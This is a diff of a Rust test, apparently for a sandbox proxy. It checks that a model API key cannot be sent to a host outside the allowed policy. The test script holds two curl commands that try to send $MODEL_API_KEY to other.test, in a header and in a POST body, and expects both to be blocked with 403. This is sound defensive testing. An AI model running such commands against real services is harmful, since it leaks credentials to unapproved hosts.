@@ -68,16 +68,11 @@ fn s001_25_a_provider_key_is_used_and_never_inside() {
 #[test]
 fn a_placeholder_goes_nowhere_else() {
     let internet = Internet::new();
-    if !internet.knows_root() {
-        return;
-    }
     with_key(&internet);
-    let policy = internet.world.beside("policy").join("config.toml");
-    std::fs::write(&policy, "[[host]]\nallow = [\"other.test\"]\ninspect = true\n").unwrap();
-    let flags = [FLAGS, &["--policy", policy.to_str().unwrap()]].concat();
+    internet.operator("[[host]]\nallow = [\"other.test\"]\ninspect = true\n");
     let script = "curl -sS -w '%{http_code}' -H \"Authorization: Bearer $MODEL_API_KEY\" https://other.test/echo; \
                   curl -sS -w '%{http_code}' -d \"$MODEL_API_KEY\" http://other.test/echo";
-    let done = internet.run(&flags, &["sh", "-c", script]);
+    let done = internet.run(FLAGS, &["sh", "-c", script]);
     assert_eq!(done.text().matches("403").count(), 2, "{} {}", done.text(), done.err);
     let visits = format!("{:?}", internet.visits());
     assert!(!visits.contains("rf_placeholder") && !visits.contains(&key()), "{visits}");
